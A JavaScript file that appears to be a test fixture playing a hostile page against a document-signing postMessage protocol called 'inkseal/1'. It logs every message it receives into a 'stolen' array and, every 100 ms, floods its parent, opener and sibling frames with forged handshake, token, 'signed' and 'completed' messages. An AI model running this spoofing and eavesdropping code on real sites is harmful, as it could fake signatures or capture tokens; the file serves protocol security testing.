/** Somebody else's page, wherever it got to: keeps what it is told, and posts every message of the protocol to all it can reach. */
const stolen = [];
Object.assign(window, { stolen });
window.addEventListener('message', ({ origin, data, ports }) =>
  stolen.push({ origin, data, ports: ports.length }),
);

const ns = 'inkseal/1';
const tell = (params) => ({ type: 'call', id: 1, method: 'event', params });
const shapes = [
  { ns, type: 'hello', nonce: 'evil', versions: [1], jkt: 'thief' },
  { ns, type: 'connect', echo: 'evil', nonce: 'evil', version: 1 },
  { type: 'call', id: 1, method: 'ready', params: { nonce: 'evil' } },
  { type: 'call', id: 1, method: 'token', params: { jkt: 'thief', reason: 'start' } },
  tell({ type: 'signed' }),
  tell({ type: 'completed', statement: 'eyJ' }),
  { type: 'result', id: 1, result: { token: 'evil' } },
  { type: 'error', id: 1, code: 'rpc_closed' },
  { type: 'inkseal-signed' },
  { event: 'inkseal-signed', detail: { type: 'recipient.signed' } },
  'inkseal-signed',
];

function attack() {
  const neighbours = Array.from({ length: window.parent.length }, (_, index) => window.parent[index]);
  const targets = [window.parent, window.opener, ...neighbours].filter((one) => one && one !== window);
  for (const target of targets)
    for (const shape of shapes) {
      target.postMessage(shape, '*');
      target.postMessage(shape, '*', [new MessageChannel().port2]);
    }
}

attack();
setInterval(attack, 100);
